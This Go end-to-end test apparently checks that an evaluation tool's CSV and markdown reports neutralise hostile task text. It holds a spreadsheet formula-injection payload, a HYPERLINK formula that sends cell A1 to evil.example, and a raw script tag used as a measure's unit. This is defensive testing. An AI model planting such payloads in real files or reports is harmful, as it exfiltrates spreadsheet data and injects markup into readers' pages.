//go:build hostile

package e2e

import (
	"encoding/csv"
	"fmt"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/headroom-eval/headroom/runner/docker"
)

// Round five, finding 6: a task's text in the reports. A Harbor task
// named as a spreadsheet formula, whose solve.sh prints a measure with
// HTML for its unit, run at 1x. `run --format csv` and `report --format
// csv` wrote the name as the cell `=HYPERLINK(...)`, which a spreadsheet
// evaluates whatever its quotes (a link that sends the sheet's A1 away);
// `report --format markdown` wrote `<script>x</script>` raw into the
// measures' table, markup wherever the report is rendered. Each output
// holding the raw formula cell or the raw HTML is forged. Guarded by
// report.csvText and report.mdText (report/cells_test.go). The task runs
// FROM docker_image, the Debian image as it is: nothing is built.
func TestHostileR5ReportCells(t *testing.T) {
	needEngine(t)
	bin := hostileBin(t)
	root := t.TempDir()
	tasks := filepath.Join(root, "tasks")
	const name = `=HYPERLINK("http://evil.example/?x="&A1,"ok")`
	harborTask(t, tasks, "cells", name, map[string]string{
		"task.toml":         fmt.Sprintf("schema_version = \"1.1\"\n[task]\nname = %q\n[verifier]\ntimeout_sec = 60.0\n[agent]\ntimeout_sec = 60.0\n[environment]\ndocker_image = %q\ncpus = 1\nmemory_mb = 128\nallow_internet = false\n", name, docker.DebianImage),
		"solution/solve.sh": "#!/bin/bash\necho 'headroom-measure: a|b|c 3 <script>x</script>'\n",
	})
	out := filepath.Join(root, "out")
	run := runBin(t, bin, nil, "run", "--tasks-dir", tasks, "--agents", "oracle", "--ratios", "1x", "--repeats", "1", "--format", "csv", "--out", out)
	if run.code != 0 {
		t.Errorf("run exit %d:\n%s", run.code, run.stderr)
	}
	dir, recs, leaked := records(t, out)
	lost, forged := 1-len(recs), 0
	measured := 0
	for _, r := range recs {
		if r["outcome"] != "passed" {
			t.Errorf("the trial %v, want passed: %v", r["outcome"], r["reason"])
			lost++
		}
		if strings.Contains(fmt.Sprint(r["knobs"]), "<script>x</script>") {
			measured++
		}
	}
	if measured != len(recs) {
		t.Errorf("%d of %d records hold the measure's unit <script>x</script>: the row does not test what it says", measured, len(recs))
	}
	var said []string
	// csvCell is how a CSV output wrote the task's name: its cell, read
	// back as a spreadsheet's import reads it.
	csvCell := func(what, text string) {
		rows, err := csv.NewReader(strings.NewReader(text)).ReadAll()
		if err != nil {
			t.Errorf("%s: not CSV: %v\n%s", what, err, text)
			forged++
			return
		}
		cell := ""
		for _, row := range rows {
			if len(row) > 1 && strings.Contains(row[1], "HYPERLINK") {
				cell = row[1]
			}
		}
		switch {
		case cell == "":
			t.Errorf("%s names no task HYPERLINK:\n%s", what, text)
			forged++
		case strings.ContainsRune("=+-@\t\r", rune(cell[0])):
			t.Errorf("%s: the task's cell %q is a formula to a spreadsheet", what, cell)
			forged++
		}
		said = append(said, fmt.Sprintf("%s: the cell `%s`", what, cell))
	}
	csvCell("`run --format csv`", run.stdout)
	rep := runBin(t, bin, nil, "report", dir, "--format", "csv")
	if rep.code != 0 {
		t.Errorf("report --format csv exit %d:\n%s", rep.code, rep.stderr)
	}
	csvCell("`report --format csv`", rep.stdout)
	md := runBin(t, bin, nil, "report", dir, "--format", "markdown")
	if md.code != 0 {
		t.Errorf("report --format markdown exit %d:\n%s", md.code, md.stderr)
	}
	if n := strings.Count(md.stdout, "<script>"); n > 0 || strings.Contains(md.stdout, "</script>") {
		t.Errorf("report --format markdown holds the raw <script> %d times:\n%s", n, md.stdout)
		forged++
		said = append(said, fmt.Sprintf("`report --format markdown`: raw `<script>x</script>` ×%d", n))
	} else if !strings.Contains(md.stdout, "&lt;script&gt;x&lt;/script&gt;") {
		t.Errorf("report --format markdown shows no measure unit, escaped:\n%s", md.stdout)
		forged++
	} else {
		said = append(said, "`report --format markdown`: `&lt;script&gt;x&lt;/script&gt;`")
	}
	letoutRow(t, "a Harbor task named `=HYPERLINK(\"http://evil.example/?x=\"&A1,\"ok\")` whose solve.sh prints `headroom-measure: a|b|c 3 <script>x</script>` (1x, 1 repeat)",
		fmt.Sprintf("%d trial(s), the run %s; %s", len(recs), run.elapsed.Round(100*time.Millisecond), strings.Join(said, "; ")), lost, leaked, forged)
}
